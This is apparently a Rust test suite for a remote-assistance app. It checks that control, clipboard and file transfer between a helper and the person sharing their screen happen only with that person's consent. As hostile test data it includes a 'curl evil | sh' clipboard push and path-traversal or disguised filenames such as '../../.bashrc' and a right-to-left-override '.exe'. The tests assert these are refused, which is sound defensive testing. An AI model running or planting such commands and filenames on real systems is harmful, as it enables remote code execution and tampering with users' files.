//! The two cores back to back, as quinn's `Pair` or str0m's `progress()`: every control
//! message one side transmits is handed to the other, input travels as the input stream
//! would carry it, in virtual time. A session's rules, end to end, in microseconds.

use std::time::{Duration, Instant};

use super::helper_core::{HelperAction, HelperCore};
use super::sharer_core::{SharerAction, SharerCore, SILENT_PATH};
use super::transfers::{FileAction, FileLimits, IncomingFile, LocalFile, MAX_OPEN_TRANSFERS};
use super::{Command, Event, FileDirection};
use crate::capture::{CaptureInfo, MonitorInfo};
use crate::file::{FileHead, FileRefusal};
use crate::input::gate::ControlState;
use crate::input::translate::InjectOp;
use crate::input::InputEvent;
use crate::protocol::{Control, EndReason, Role};

/// What a paste would give, for the tests' comparisons.
fn as_text(content: crate::protocol::ClipboardContent) -> String {
    match content {
        crate::protocol::ClipboardContent::Text(text) => text,
        crate::protocol::ClipboardContent::Png(png) => format!("<{} bytes of PNG>", png.len()),
    }
}

struct Pair {
    sharer: SharerCore,
    helper: HelperCore,
    now: Instant,
    /// What each person's UI was told, in order.
    sharer_saw: Vec<Event>,
    helper_saw: Vec<Event>,
    /// What reached the sharer's desktop: injected (`true`) or released (`false`).
    desktop: Vec<(bool, InjectOp)>,
    ended: Vec<(Role, EndReason)>,
    /// What each side's driver put on its desktop's clipboard, and whether it watches it.
    sharer_clipboard: Vec<String>,
    helper_clipboard: Vec<String>,
    watching: (bool, bool),
    /// File streams each side's core took (the driver would write them to disk), and the
    /// streams it refused.
    sharer_took: Vec<IncomingFile>,
    helper_took: Vec<IncomingFile>,
    refused_streams: Vec<(Role, u32)>,
    /// Transfers each driver was told to stop, and whether it holds the bytes.
    stopped: Vec<(Role, u32)>,
    held: (bool, bool),
    /// Files saved just as their transfer was cancelled, deleted by the driver.
    discarded: Vec<std::path::PathBuf>,
}

impl Pair {
    fn new() -> Self {
        let now = Instant::now();
        let mut sharer = SharerCore::new("Anna R.".into(), true, now);
        sharer.set_clipboard_available(true);
        sharer.set_file_receiving(
            true,
            FileLimits {
                max_size: 1_000_000,
                max_files: 6,
            },
        );
        let mut helper = HelperCore::default();
        helper.set_file_receiving(true, FileLimits::default());
        sharer.handle_monitors(
            vec![MonitorInfo {
                id: 0,
                name: "m".into(),
                screen: 0,
                x: 0,
                y: 0,
                width: 800,
                height: 600,
                width_mm: 0,
                primary: true,
                scale_percent: 100,
            }],
            0,
            CaptureInfo::new("test-pattern"),
        );
        let mut pair = Self {
            sharer,
            helper,
            now,
            sharer_saw: Vec::new(),
            helper_saw: Vec::new(),
            desktop: Vec::new(),
            ended: Vec::new(),
            sharer_clipboard: Vec::new(),
            helper_clipboard: Vec::new(),
            watching: (false, false),
            sharer_took: Vec::new(),
            helper_took: Vec::new(),
            refused_streams: Vec::new(),
            stopped: Vec::new(),
            held: (false, false),
            discarded: Vec::new(),
        };
        pair.progress();
        pair
    }

    /// Moves everything each side has to say to the other until both are quiet.
    fn progress(&mut self) {
        loop {
            let mut moved = false;
            while let Some(action) = self.sharer.poll_action() {
                moved = true;
                match action {
                    SharerAction::OpenInjector => self.sharer.handle_injector_opened(Ok(())),
                    SharerAction::Inject(ops) => {
                        self.desktop.extend(ops.into_iter().map(|op| (true, op)))
                    }
                    SharerAction::Release(ops) => {
                        self.desktop.extend(ops.into_iter().map(|op| (false, op)))
                    }
                    SharerAction::Pause(_) | SharerAction::SelectMonitor(_) => {}
                    SharerAction::WatchClipboard(on) => self.watching.0 = on,
                    SharerAction::SetClipboard(content) => {
                        self.sharer_clipboard.push(as_text(content))
                    }
                    // As a clipboard stream would carry it.
                    SharerAction::SendClipboard(text) => {
                        self.helper.handle_clipboard_from_sharer(self.now, text)
                    }
                    // As a file stream would carry it: the helper's core decides.
                    SharerAction::File(FileAction::Send { id, size, .. }) => {
                        match self.helper.take_file_stream(FileHead { id, size }) {
                            Some(file) => self.helper_took.push(file),
                            None => self.refused_streams.push((Role::Helper, id)),
                        }
                    }
                    SharerAction::File(FileAction::Stop(id)) => {
                        self.stopped.push((Role::Sharer, id))
                    }
                    SharerAction::File(FileAction::Hold(on)) => self.held.0 = on,
                    SharerAction::File(FileAction::Discard(path)) => self.discarded.push(path),
                    // As the driver's graceful close: the other side gets an `End`.
                    SharerAction::End {
                        reason,
                        tell_helper,
                    } => {
                        self.ended.push((Role::Sharer, reason));
                        if tell_helper {
                            self.helper
                                .handle_control(self.now, Control::End { reason });
                        }
                    }
                }
            }
            while let Some(action) = self.helper.poll_action() {
                moved = true;
                match action {
                    HelperAction::SendInput(event) => self.sharer.handle_input(self.now, &event),
                    HelperAction::WatchClipboard(on) => self.watching.1 = on,
                    HelperAction::SetClipboard(content) => {
                        self.helper_clipboard.push(as_text(content))
                    }
                    HelperAction::SendClipboard(text) => {
                        self.sharer.handle_clipboard_from_helper(self.now, text)
                    }
                    HelperAction::File(FileAction::Send { id, size, .. }) => {
                        match self.sharer.take_file_stream(FileHead { id, size }) {
                            Some(file) => self.sharer_took.push(file),
                            None => self.refused_streams.push((Role::Sharer, id)),
                        }
                    }
                    HelperAction::File(FileAction::Stop(id)) => {
                        self.stopped.push((Role::Helper, id))
                    }
                    HelperAction::File(FileAction::Hold(on)) => self.held.1 = on,
                    HelperAction::File(FileAction::Discard(path)) => self.discarded.push(path),
                    HelperAction::End {
                        reason,
                        tell_sharer,
                    } => {
                        self.ended.push((Role::Helper, reason));
                        if tell_sharer {
                            self.sharer
                                .handle_control(self.now, Control::End { reason });
                        }
                    }
                }
            }
            while let Some(msg) = self.sharer.poll_transmit() {
                moved = true;
                let back = self.helper.handle_control(self.now, msg);
                assert!(
                    back.is_none(),
                    "transport message in a rules test: {back:?}"
                );
            }
            while let Some(msg) = self.helper.poll_transmit() {
                moved = true;
                let back = self.sharer.handle_control(self.now, msg);
                assert!(
                    back.is_none(),
                    "transport message in a rules test: {back:?}"
                );
            }
            while let Some(event) = self.sharer.poll_event() {
                moved = true;
                self.sharer_saw.push(event);
            }
            while let Some(event) = self.helper.poll_event() {
                moved = true;
                self.helper_saw.push(event);
            }
            if !moved {
                return;
            }
        }
    }

    fn sharer_does(&mut self, command: Command) {
        self.sharer.handle_command(self.now, command);
        self.progress();
    }

    fn helper_does(&mut self, command: Command) {
        self.helper.handle_command(self.now, command);
        self.progress();
    }

    fn type_key(&mut self, code: &str, down: bool) {
        self.helper_does(Command::Input(InputEvent::Key {
            code: code.into(),
            down,
        }));
    }

    /// A person copies on the helper's (`Role::Helper`) or the sharer's computer; its driver
    /// reports the change only while it watches, as the real one does.
    fn copies(&mut self, on: Role, text: &str) {
        match on {
            Role::Helper if self.watching.1 => self.helper.handle_local_clipboard(text.into()),
            Role::Sharer if self.watching.0 => self.sharer.handle_local_clipboard(text.into()),
            _ => {}
        }
        self.progress();
    }

    /// The helper picks a file to send.
    fn helper_sends(&mut self, name: &str, size: u64) {
        self.helper
            .handle_local_file(LocalFile::new(format!("/home/h/{name}").into(), size));
        self.progress();
    }

    /// A hostile helper's stream for transfer `id`, straight to the sharer's core.
    fn stream_to_sharer(&mut self, id: u32, size: u64) -> bool {
        let taken = self.sharer.take_file_stream(FileHead { id, size });
        self.progress();
        taken.is_some()
    }

    /// Both drivers finish transfer `id` (`to`: the receiving side), as their tasks would:
    /// the sender once everything is written, the receiver once the hash matched.
    fn file_arrives(&mut self, id: u32, to: Role) {
        match to {
            Role::Sharer => {
                self.helper.handle_file_finished(id, Ok(None));
                self.sharer
                    .handle_file_finished(id, Ok(Some(format!("/dl/{id}").into())));
            }
            Role::Helper => {
                self.sharer.handle_file_finished(id, Ok(None));
                self.helper
                    .handle_file_finished(id, Ok(Some(format!("/dl/{id}").into())));
            }
        }
        self.progress();
    }

    fn offers_seen(&self) -> usize {
        self.sharer_saw
            .iter()
            .filter(|e| matches!(e, Event::FileOffered { .. }))
            .count()
    }

    fn injected(&self) -> usize {
        self.desktop.iter().filter(|(down, _)| *down).count()
    }

    fn released(&self) -> usize {
        self.desktop.iter().filter(|(down, _)| !*down).count()
    }

    /// The helper asks, the person allows.
    fn take_control(&mut self) {
        self.helper_does(Command::RequestControl);
        assert!(matches!(
            self.sharer_saw.last(),
            Some(Event::ControlRequested { .. })
        ));
        self.sharer_does(Command::GrantControl);
        assert_eq!(self.helper.control(), ControlState::Granted);
    }
}

#[test]
fn control_is_asked_granted_used_and_revoked_with_both_people_told() {
    let mut p = Pair::new();
    assert!(matches!(p.helper_saw[..], [Event::Monitors { .. }]));
    // Typed before any grant: nothing lands.
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 0);
    p.take_control();
    assert!(matches!(p.helper_saw.last(), Some(Event::ControlGranted)));
    p.type_key("ShiftLeft", true);
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 2);
    // The person takes control back: Shift and A are let go, the helper is told, and what
    // it types next goes nowhere.
    p.sharer_does(Command::RevokeControl);
    assert_eq!(p.released(), 2);
    assert!(matches!(p.helper_saw.last(), Some(Event::ControlRevoked)));
    assert_eq!(p.helper.control(), ControlState::ViewOnly);
    p.type_key("KeyB", true);
    assert_eq!(p.injected(), 2);
    // The helper gives control back itself: the sharer's UI hears of it.
    p.take_control();
    p.helper_does(Command::ReleaseControl);
    assert!(matches!(p.sharer_saw.last(), Some(Event::ControlReleased)));
    assert_eq!(p.sharer.control(), ControlState::ViewOnly);
}

#[test]
fn the_persons_pause_stands_until_they_lift_it() {
    let mut p = Pair::new();
    p.take_control();
    p.sharer_does(Command::Pause);
    assert_eq!(p.helper.paused_by(), Some(Role::Sharer));
    // The helper tries to resume: refused, and told why.
    p.helper_does(Command::Resume);
    assert_eq!(p.sharer.paused_by(), Some(Role::Sharer));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::ResumeRefused {
            paused_by: Role::Sharer,
            ..
        })
    ));
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 0, "input during the person's pause");
    p.sharer_does(Command::Resume);
    assert_eq!((p.sharer.paused_by(), p.helper.paused_by()), (None, None));
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 1);

    // The helper's pause: the person may lift it too.
    p.helper_does(Command::Pause);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::Paused { by: Role::Helper })
    ));
    p.sharer_does(Command::Resume);
    assert_eq!((p.sharer.paused_by(), p.helper.paused_by()), (None, None));
}

#[test]
fn a_silent_helper_lets_go_of_held_keys() {
    let mut p = Pair::new();
    p.take_control();
    p.sharer.handle_packets(p.now);
    p.type_key("ControlLeft", true);
    let due = p
        .sharer
        .poll_timeout()
        .expect("a deadline while a key is held");
    p.now = due - Duration::from_millis(1);
    p.sharer.handle_timeout(p.now);
    p.progress();
    assert_eq!(p.released(), 0);
    p.now = due;
    p.sharer.handle_timeout(p.now);
    p.progress();
    assert_eq!(p.released(), 1);
    assert_eq!(due, p.now);
    assert!(SILENT_PATH < Duration::from_secs(2));
}

#[test]
fn chat_and_drawing_reach_the_other_side_and_the_report_knows_what_was_used() {
    let mut p = Pair::new();
    p.helper_does(Command::Chat("hello".into()));
    p.sharer_does(Command::Chat("hi".into()));
    assert!(
        matches!(&p.sharer_saw.last(), Some(Event::Chat { from: Role::Helper, text }) if text == "hello")
    );
    assert!(
        matches!(&p.helper_saw.last(), Some(Event::Chat { from: Role::Sharer, text }) if text == "hi")
    );
    p.helper_does(Command::Annotate(crate::annotation::Annotation::Laser {
        x: 3,
        y: 4,
    }));
    assert!(matches!(p.sharer_saw.last(), Some(Event::Annotation(_))));
    p.take_control();
    let used: Vec<&str> = p.helper.features().iter().map(|f| f.as_str()).collect();
    assert_eq!(used, ["control", "annotation", "chat"]);
}

#[test]
fn an_end_from_either_side_ends_both_and_releases_what_was_held() {
    let mut p = Pair::new();
    p.take_control();
    p.type_key("ShiftLeft", true);
    p.helper_does(Command::End);
    assert_eq!(
        p.ended,
        [
            (Role::Helper, EndReason::HelperEnded),
            (Role::Sharer, EndReason::HelperEnded)
        ]
    );
    assert_eq!(p.released(), 1);

    let mut p = Pair::new();
    p.sharer_does(Command::End);
    assert_eq!(
        p.ended,
        [
            (Role::Sharer, EndReason::SharerEnded),
            (Role::Helper, EndReason::SharerEnded)
        ]
    );
    // Nothing either side does after the end goes anywhere.
    p.helper_does(Command::Chat("still there?".into()));
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 0);
    assert!(!p.sharer_saw.iter().any(|e| matches!(e, Event::Chat { .. })));
}

#[test]
fn copies_cross_only_between_allow_and_revoke_and_never_while_paused() {
    let mut p = Pair::new();
    // A hostile helper sends a copy without asking: nothing is set.
    p.sharer
        .handle_clipboard_from_helper(p.now, "curl evil | sh".into());
    p.progress();
    assert!(p.sharer_clipboard.is_empty());
    assert_eq!(p.sharer.refused_clipboard(), 1);
    // Nor may a sharer push text into a helper that never asked.
    p.helper
        .handle_clipboard_from_sharer(p.now, "unasked".into());
    p.progress();
    assert!(p.helper_clipboard.is_empty());
    assert_eq!(
        (p.watching.0, p.watching.1),
        (false, false),
        "nobody reads a clipboard yet"
    );

    // Asked: the person sees who asks; until they answer, nothing crosses.
    p.helper_does(Command::RequestClipboard);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::ClipboardRequested { helper_name }) if helper_name == "Anna R."
    ));
    p.sharer
        .handle_clipboard_from_helper(p.now, "before the answer".into());
    p.progress();
    assert!(p.sharer_clipboard.is_empty());

    p.sharer_does(Command::GrantClipboard);
    assert!(matches!(p.helper_saw.last(), Some(Event::ClipboardGranted)));
    assert_eq!(p.watching, (true, true));
    assert!(p
        .helper
        .features()
        .contains(&tandem_rendezvous::records::Feature::Clipboard));

    // Both ways, once each, and the echo of a copy set is not sent back.
    p.copies(Role::Helper, "ls -la /var/log");
    assert_eq!(p.sharer_clipboard, ["ls -la /var/log"]);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::ClipboardReceived { bytes: 15 })
    ));
    p.copies(Role::Sharer, "ls -la /var/log");
    assert!(
        p.helper_clipboard.is_empty(),
        "the helper's own copy came back"
    );
    p.copies(Role::Sharer, "error: disk full");
    assert_eq!(p.helper_clipboard, ["error: disk full"]);

    // The person pauses to type a password: what they copy meanwhile stays with them, also
    // after the pause; the helper's copies and a hostile push do not land either.
    p.sharer_does(Command::Pause);
    p.copies(Role::Sharer, "hunter2");
    p.copies(Role::Helper, "while paused");
    p.sharer
        .handle_clipboard_from_helper(p.now, "pushed while paused".into());
    p.sharer_does(Command::Resume);
    p.progress();
    assert_eq!(p.helper_clipboard, ["error: disk full"]);
    assert_eq!(p.sharer_clipboard, ["ls -la /var/log"]);
    // The helper's own pause stops copies too.
    p.helper_does(Command::Pause);
    p.copies(Role::Sharer, "during the helper's pause");
    p.helper_does(Command::Resume);
    assert_eq!(p.helper_clipboard, ["error: disk full"]);
    // After the pause, new copies cross again.
    p.copies(Role::Helper, "sudo systemctl restart cups");
    assert_eq!(
        p.sharer_clipboard.last().map(String::as_str),
        Some("sudo systemctl restart cups")
    );

    // Revoked: both are told, neither watches, nothing crosses.
    p.sharer_does(Command::RevokeClipboard);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::ClipboardStopped { by: Role::Sharer })
    ));
    assert_eq!(p.watching, (false, false));
    let before = p.sharer_clipboard.len();
    p.sharer
        .handle_clipboard_from_helper(p.now, "after the revoke".into());
    p.helper
        .handle_clipboard_from_sharer(p.now, "after the revoke".into());
    p.progress();
    assert_eq!(p.sharer_clipboard.len(), before);
    assert_eq!(p.helper_clipboard, ["error: disk full"]);

    // A "no" is remembered for a moment: asking again at once is answered without the
    // person being asked.
    p.helper_does(Command::RequestClipboard);
    p.sharer_does(Command::DeclineClipboard);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::ClipboardDeclined {
            reason: crate::input::DeclineReason::Declined,
            ..
        })
    ));
    let asked = p.sharer_saw.len();
    p.helper_does(Command::RequestClipboard);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::ClipboardDeclined {
            reason: crate::input::DeclineReason::TooSoon,
            ..
        })
    ));
    assert_eq!(p.sharer_saw.len(), asked, "the person was not asked again");
}

#[test]
fn a_desktop_without_a_clipboard_says_so_without_asking_the_person() {
    let mut p = Pair::new();
    p.sharer.set_clipboard_available(false);
    p.helper_does(Command::RequestClipboard);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::ClipboardDeclined {
            reason: crate::input::DeclineReason::NotPossible,
            ..
        })
    ));
    assert!(!p
        .sharer_saw
        .iter()
        .any(|e| matches!(e, Event::ClipboardRequested { .. })));
    // The helper's own clipboard failing stops sharing and tells both sides.
    p.sharer.set_clipboard_available(true);
    p.helper_does(Command::RequestClipboard);
    p.sharer_does(Command::GrantClipboard);
    p.helper.handle_clipboard_unavailable("no display".into());
    p.progress();
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::ClipboardStopped { by: Role::Helper })
    ));
    assert_eq!(p.watching, (false, false));
}

#[test]
fn a_file_crosses_only_after_the_person_accepts_it() {
    let mut p = Pair::new();
    p.helper_sends("driver.zip", 700_000);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::FileOffered { id: 1, name, size: 700_000, from }) if name == "driver.zip" && from == "Anna R."
    ));
    // Not accepted yet: nothing is sent, and a stream sent anyway is refused unread.
    assert!(p.sharer_took.is_empty() && p.refused_streams.is_empty());
    assert!(!p.stream_to_sharer(1, 700_000));
    // Accepted: the helper streams it and the sharer takes that one stream, once.
    p.sharer_does(Command::AcceptFile(1));
    assert_eq!(p.sharer_took.len(), 1);
    assert_eq!(p.sharer_took[0].name, "driver.zip");
    assert!(!p.stream_to_sharer(1, 700_000), "a second stream for it");
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileStarted {
            id: 1,
            direction: FileDirection::Sending,
            ..
        })
    ));
    assert!(p
        .helper
        .features()
        .contains(&tandem_rendezvous::records::Feature::FileTransfer));
    p.file_arrives(1, Role::Sharer);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::FileDone { id: 1, direction: FileDirection::Receiving, path: Some(path), .. }) if path == "/dl/1"
    ));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDone {
            id: 1,
            direction: FileDirection::Sending,
            path: None,
            ..
        })
    ));

    // Declined: the helper is told, nothing streams.
    p.helper_sends("second.txt", 10);
    p.sharer_does(Command::DeclineFile(2));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDeclined {
            id: 2,
            reason: FileRefusal::Declined,
            ..
        })
    ));
    assert_eq!(p.sharer_took.len(), 1);
    assert!(!p.stream_to_sharer(2, 10));
}

#[test]
fn a_pause_holds_files_and_a_cancel_from_either_side_keeps_nothing() {
    let mut p = Pair::new();
    p.helper_sends("a.bin", 1000);
    p.sharer_does(Command::AcceptFile(1));
    // The person pauses: both sides hold the bytes, and a new offer is declined unasked.
    p.sharer_does(Command::Pause);
    assert_eq!(p.held, (true, true));
    p.helper_sends("during-pause.bin", 10);
    assert_eq!(p.offers_seen(), 1);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDeclined {
            id: 2,
            reason: FileRefusal::Paused,
            ..
        })
    ));
    p.sharer_does(Command::Resume);
    assert_eq!(p.held, (false, false));
    // The helper cancels mid-way: the sharer's driver stops it (and deletes what arrived).
    p.helper_does(Command::CancelFile(1));
    assert!(p.stopped.contains(&(Role::Helper, 1)) && p.stopped.contains(&(Role::Sharer, 1)));
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::FileCancelled {
            id: 1,
            by: Role::Helper
        })
    ));
    // A late finish of the cancelled transfer is not reported as saved.
    p.sharer.handle_file_finished(1, Ok(Some("/dl/1".into())));
    p.progress();
    assert!(!p
        .sharer_saw
        .iter()
        .any(|e| matches!(e, Event::FileDone { .. })));

    // The sharer cancels the next one.
    p.helper_sends("b.bin", 1000);
    p.sharer_does(Command::AcceptFile(3));
    p.sharer_does(Command::CancelFile(3));
    assert!(p.stopped.contains(&(Role::Helper, 3)));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileCancelled {
            id: 3,
            by: Role::Sharer
        })
    ));
    // A damaged file: the receiver says so, the sender stops.
    p.helper_sends("c.bin", 1000);
    p.sharer_does(Command::AcceptFile(4));
    p.helper.handle_file_finished(4, Ok(None));
    p.sharer
        .handle_file_finished(4, Err(FileRefusal::Corrupted));
    p.progress();
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileFailed {
            id: 4,
            reason: FileRefusal::Corrupted,
            ..
        })
    ));
}

#[test]
fn a_hostile_helper_gets_nothing_written_and_cannot_nag() {
    let mut p = Pair::new();
    let offer = |id, name: &str, size| Control::FileOffer {
        id,
        name: name.into(),
        size,
    };
    // Names that reach outside the folder, hide, disguise or name a device: refused
    // without asking the person (who is told, with the name cleaned).
    let mut id = 0;
    for name in [
        "../../.bashrc",
        "/etc/cron.d/x",
        "C:\\evil.exe",
        ".hidden",
        "NUL",
        "pay\u{202E}fdp.exe",
        "",
    ] {
        id += 1;
        p.now += Duration::from_secs(1);
        p.sharer.handle_control(p.now, offer(id, name, 10));
        p.progress();
        assert!(!p.stream_to_sharer(id, 10), "{name:?}");
    }
    assert_eq!(p.offers_seen(), 0);
    let refusals = p
        .sharer_saw
        .iter()
        .filter(|e| {
            matches!(
                e,
                Event::FileDeclined {
                    reason: FileRefusal::BadName,
                    ..
                }
            )
        })
        .count();
    assert_eq!(refusals, 7);
    // Over the sharer's size limit.
    p.now += Duration::from_secs(10);
    p.sharer
        .handle_control(p.now, offer(20, "big.iso", 1_000_001));
    p.progress();
    assert_eq!(p.offers_seen(), 0);
    // A stream for an id nobody offered, an old id replayed, a wrong size: nothing taken.
    assert!(!p.stream_to_sharer(99, 10));
    p.sharer.handle_control(p.now, offer(21, "ok.txt", 10));
    p.progress();
    p.sharer.handle_control(p.now, offer(21, "again.txt", 10));
    p.progress();
    assert_eq!(p.offers_seen(), 1, "a replayed id is ignored");
    p.sharer_does(Command::AcceptFile(21));
    assert!(!p.stream_to_sharer(21, 11), "not the size offered");
    assert!(!p.stream_to_sharer(21, 10), "failed, so gone");
    // A flood: at most a few questions open, a token per second.
    p.now += Duration::from_secs(10);
    for id in 100..1100 {
        p.sharer.handle_control(p.now, offer(id, "spam.txt", 1));
    }
    p.progress();
    assert!(
        p.offers_seen() <= 1 + MAX_OPEN_TRANSFERS,
        "{}",
        p.offers_seen()
    );
    // The session's count: six files at most are taken.
    let mut p = Pair::new();
    for n in 0..8u32 {
        p.now += Duration::from_secs(5);
        p.helper_sends(&format!("f{n}.txt"), 1);
        p.sharer_does(Command::AcceptFile(n + 1));
        p.file_arrives(n + 1, Role::Sharer);
    }
    assert_eq!(p.sharer_took.len(), 6);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDeclined {
            reason: FileRefusal::TooMany,
            ..
        })
    ));
}

#[test]
fn the_helper_takes_only_the_files_it_asked_for() {
    let mut p = Pair::new();
    // A sharer that pushes a file unasked is declined; nothing is taken.
    p.helper.handle_control(
        p.now,
        Control::FileOffer {
            id: 7,
            name: "unasked.exe".into(),
            size: 5,
        },
    );
    p.progress();
    assert!(p.helper_took.is_empty());
    // Asked: the person there chooses the file; it then streams without another question.
    p.helper_does(Command::RequestFile);
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::FileRequested { id: 1, helper_name }) if helper_name == "Anna R."
    ));
    p.sharer.handle_local_file(LocalFile::new(
        "/home/mario/.local/share/app/crash.log".into(),
        42,
    ));
    p.progress();
    assert_eq!(p.helper_took.len(), 1);
    assert_eq!(p.helper_took[0].name, "crash.log");
    p.file_arrives(1, Role::Helper);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDone {
            id: 1,
            direction: FileDirection::Receiving,
            ..
        })
    ));
    // Declined by the person: the helper is told.
    p.now += Duration::from_secs(5);
    p.helper_does(Command::RequestFile);
    p.sharer_does(Command::DeclineFile(2));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDeclined {
            id: 2,
            reason: FileRefusal::Declined,
            ..
        })
    ));
    // A file the person chooses with nobody asking goes nowhere.
    p.sharer
        .handle_local_file(LocalFile::new("/etc/hostname".into(), 9));
    p.progress();
    assert_eq!(p.helper_took.len(), 1);
}

#[test]
fn a_no_is_not_worn_down_and_the_helper_cannot_answer_for_the_person() {
    let mut p = Pair::new();
    p.helper_does(Command::RequestControl);
    p.sharer_does(Command::GrantControl);
    p.type_key("ShiftLeft", true);
    assert_eq!(p.injected(), 1);
    // While the person is asked about a file, the helper's input goes nowhere (it could
    // click Accept itself), and what it held is let go.
    p.helper_sends("setup.exe", 100);
    assert_eq!(p.offers_seen(), 1);
    p.type_key("Enter", true);
    assert_eq!(p.injected(), 1);
    assert_eq!(p.released(), 1);
    p.sharer_does(Command::DeclineFile(1));
    // Asking again at once is declined without asking; after a while the person is asked.
    p.now += Duration::from_secs(2);
    p.helper_sends("setup.exe", 100);
    assert_eq!(p.offers_seen(), 1);
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDeclined {
            reason: FileRefusal::TooSoon,
            ..
        })
    ));
    p.now += super::transfers::DECLINE_QUIET;
    p.helper_sends("setup.exe", 100);
    assert_eq!(p.offers_seen(), 2);
    // Answered: input lands again.
    p.sharer_does(Command::AcceptFile(3));
    p.type_key("KeyA", true);
    assert_eq!(p.injected(), 2);
}

#[test]
fn the_receivers_word_may_come_before_the_senders_task_ends_and_a_reset_is_a_cancel() {
    let mut p = Pair::new();
    p.helper_sends("a.bin", 10);
    p.sharer_does(Command::AcceptFile(1));
    // The sharer saved it before the helper's task said it wrote the last byte.
    p.sharer.handle_file_finished(1, Ok(Some("/dl/1".into())));
    p.progress();
    assert!(!p
        .helper_saw
        .iter()
        .any(|e| matches!(e, Event::FileDone { .. })));
    p.helper.handle_file_finished(1, Ok(None));
    p.progress();
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileDone {
            id: 1,
            direction: FileDirection::Sending,
            ..
        })
    ));
    // A peer that only resets its stream (no `FileCancel`) does not hold a transfer open.
    p.now += Duration::from_secs(5);
    p.helper_sends("b.bin", 10);
    p.sharer_does(Command::AcceptFile(2));
    p.sharer.handle_file_peer_stopped(2);
    p.progress();
    assert!(matches!(
        p.sharer_saw.last(),
        Some(Event::FileCancelled {
            id: 2,
            by: Role::Helper
        })
    ));
    assert!(p.stopped.contains(&(Role::Sharer, 2)));
}

#[test]
fn a_transfer_that_stalls_is_given_up_but_a_paused_one_is_not() {
    use super::transfers::STALLED;
    let mut p = Pair::new();
    p.helper_sends("a.bin", 1000);
    p.sharer_does(Command::AcceptFile(1));
    assert_eq!(p.sharer.poll_timeout(), Some(p.now + STALLED));
    // Bytes move: the deadline moves with them.
    p.now += Duration::from_secs(50);
    p.sharer.handle_file_progress(p.now, 1, 500);
    p.helper.handle_file_progress(p.now, 1, 500);
    p.progress();
    assert_eq!(p.sharer.poll_timeout(), Some(p.now + STALLED));
    // Paused for ten minutes: held, not stalled; after the resume the clock starts again.
    p.sharer_does(Command::Pause);
    assert_eq!(p.sharer.poll_timeout(), None);
    assert_eq!(p.helper.poll_timeout(), None);
    p.now += Duration::from_secs(600);
    p.sharer.handle_timeout(p.now);
    p.progress();
    assert!(p.stopped.is_empty());
    p.sharer_does(Command::Resume);
    assert_eq!(p.sharer.poll_timeout(), Some(p.now + STALLED));
    // Then nothing for a minute: given up on both sides, what arrived deleted.
    p.now += STALLED;
    p.sharer.handle_timeout(p.now);
    p.progress();
    assert!(p.stopped.contains(&(Role::Sharer, 1)) && p.stopped.contains(&(Role::Helper, 1)));
    assert!(matches!(
        p.helper_saw.last(),
        Some(Event::FileFailed {
            id: 1,
            reason: FileRefusal::Stalled,
            ..
        })
    ));
    assert_eq!(p.sharer.poll_timeout(), None);
}
